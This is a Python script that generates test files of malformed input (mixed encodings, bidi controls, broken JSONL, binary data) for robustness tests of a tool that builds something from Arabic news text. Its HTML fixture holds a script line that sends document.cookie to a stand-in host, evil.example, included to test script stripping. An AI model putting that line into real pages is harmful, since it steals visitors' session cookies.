"""Writes the nasty-input corpus in this folder (run it from anywhere: ``python make_bad.py``).

Every file is small and written for the tests (not taken from any sample corpus); README.md lists
what each one is and what ``kg build`` must do with it. ``tests/test_robustness.py`` holds the
expected outcome of every file, so a change here must be mirrored there.
"""

from __future__ import annotations

import json
from pathlib import Path

HERE = Path(__file__).parent

# Short news paragraphs written for these tests: general Arabic news phrasing with reporting verbs.
SUDAN = (
    "قال المتحدث باسم الحكومة السودانية إن المفاوضات مع قوات الدعم السريع ستستأنف في جدة الأسبوع المقبل.\n"
    "وأضاف أن الوفد الحكومي يطالب بوقف فوري لإطلاق النار.\n"
)
TUNIS = (
    "أعلنت وزارة الصحة التونسية أن حملة التلقيح ستشمل كل الولايات.\n"
    "وقال وزير الصحة إن اللقاحات متوفرة في المستشفيات العمومية.\n"
)
IRAQ = "ذكرت وكالة الأنباء العراقية أن البرلمان صوت على قانون الموازنة بعد جلسة طويلة.\n"
# «» and Persian letters are not in ISO-8859-6, so this text keeps to plain Arabic letters and ASCII.
LIBYA = "قال رئيس المجلس الرئاسي الليبي إن الانتخابات ستجرى في موعدها. وأكد أن الحوار مستمر.\n"
PERSIAN = (
    "سخنگوی وزارت امور خارجه ایران گفت که گفتگوها با آژانس بین‌المللی انرژی اتمی ادامه دارد.\n"
    "وی افزود: «چنین پیشنهادی را نمی‌پذیریم».\n"
)
URDU = "پاکستان کے وزیر خارجہ نے کہا کہ حکومت مذاکرات کے لیے تیار ہے۔\n"
DIACRITICS = (
    "قَالَ وَزِيرُ الخَارِجِيَّةِ الأُرْدُنِيُّ إِنَّ الحَلَّ السِّيَاسِيَّ هُوَ الطَّرِيقُ الوَحِيدُ.\n"
    "وأكـــــد الـمـتـحـدث أن الاجتماع القادم سيعقـــد في عمّان.\n"
)
# U+200C ZWNJ, U+200D ZWJ, U+200F RLM, U+200E LRM, U+202B RLE … U+202C PDF, U+2067 RLI … U+2069 PDI,
# U+061C ALM, U+FEFF mid-text (a BOM pasted into the text).
BIDI = (
    "\u200fقال\u200c المتحدث باسم\u200d الجيش اللبناني إن\u200e الوحدات \u202bانتشرت في الجنوب\u202c.\n"
    "\u2067وأضاف أن الوضع هادئ\u2069 على الحدود\u061c، وأن\ufeff الدوريات مستمرة.\n"
)
CRLF = "قال محافظ البنك المركزي المصري إن التضخم سيتراجع هذا العام.\r\nوأضاف أن الاحتياطي النقدي مستقر.\r\n"
CONTROL = "قال المتحدث\x0c باسم الأمم المتحدة إن المساعدات\x1b وصلت إلى الميناء.\n" + IRAQ * 3
ENGLISH = "The minister said on Monday that talks would resume next week.\n"
HTML = (
    "<!DOCTYPE html><html><head><title>خبر &amp; تحليل</title>"
    "<script>document.write('<p>قال المخترق</p>'); alert(\"x\")</script>"
    "<style>p { color: red }</style></head><body>"
    "<nav>الرئيسية | أخبار</nav>"
    "<article><h1>المفاوضات تستأنف</h1><p>" + SUDAN.strip() + "</p>"
    "<p>وقال مصدر &quot;مطلع&quot; إن الجولة &lt;الأخيرة&gt; حاسمة.</p>"
    "<script type='text/javascript'>fetch('https://evil.example/'+document.cookie)</script></article>"
    "<footer>جميع الحقوق محفوظة</footer></body></html>"
)


def jsonl_lines() -> list[str]:
    good = {"id": "jl_good", "text": TUNIS, "title": "التلقيح", "date": "2024-03-01", "source": "وكالة"}
    return [
        json.dumps(good, ensure_ascii=False),  # 1: good
        '{"id": "jl_broken", "text": "قال',  # 2: malformed JSON (cut off)
        json.dumps(["not", "an", "object"]),  # 3: a JSON array
        json.dumps({"id": "jl_notext"}),  # 4: text missing
        json.dumps({"id": "jl_number", "text": 42}),  # 5: text is a number
        json.dumps({"text": IRAQ}, ensure_ascii=False),  # 6: id missing
        json.dumps({"id": True, "text": IRAQ}, ensure_ascii=False),  # 7: id is a boolean
        "",  # 8: blank line (ignored)
        # 9: good; a raw U+2028 inside a JSON string must not split the line
        json.dumps({"id": "jl_sep", "text": "قال المتحدث\u2028إن الوفد وصل.\n" + IRAQ}, ensure_ascii=False),
        # 10: good; a lone surrogate escape becomes U+FFFD (one for one, offsets keep)
        '{"id": "jl_surrogate", "text": "\\ud800' + IRAQ.strip() + '"}',
        json.dumps(good, ensure_ascii=False),  # 11: duplicate id
        json.dumps({"id": "jl_english", "text": ENGLISH}),  # 12: no Arabic
        json.dumps({"id": "jl_null", "text": None}),  # 13: text is null
        "[" * 5_000,  # 14: nested too deep for the JSON parser
    ]


def write_all() -> None:
    files = {
        "cp1256.txt": SUDAN.encode("cp1256"),
        "iso8859_6.txt": LIBYA.encode("iso8859_6"),
        "utf16_bom.txt": TUNIS.encode("utf-16"),
        "utf16be_nobom.txt": IRAQ.encode("utf-16-be"),
        "utf8_bom.txt": b"\xef\xbb\xbf" + LIBYA.encode("utf-8"),
        "utf8_bad_byte.txt": IRAQ.encode("utf-8") + b"\xff" + SUDAN.encode("utf-8"),
        "empty.txt": b"",
        "whitespace.txt": b" \r\n\t\n",
        "binary.txt": b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(range(256)) * 4,
        "english.txt": ENGLISH.encode("utf-8"),
        "persian.txt": PERSIAN.encode("utf-8"),
        "urdu.txt": URDU.encode("utf-8"),
        "diacritics_tatweel.txt": DIACRITICS.encode("utf-8"),
        "bidi_zero_width.txt": BIDI.encode("utf-8"),
        "crlf.txt": CRLF.encode("utf-8"),
        "control_chars.txt": CONTROL.encode("utf-8"),
        "page_script.html": HTML.encode("utf-8"),
        "broken.jsonl": "\n".join(jsonl_lines()).encode("utf-8"),
    }
    for name, data in files.items():
        (HERE / name).write_bytes(data)


if __name__ == "__main__":
    write_all()
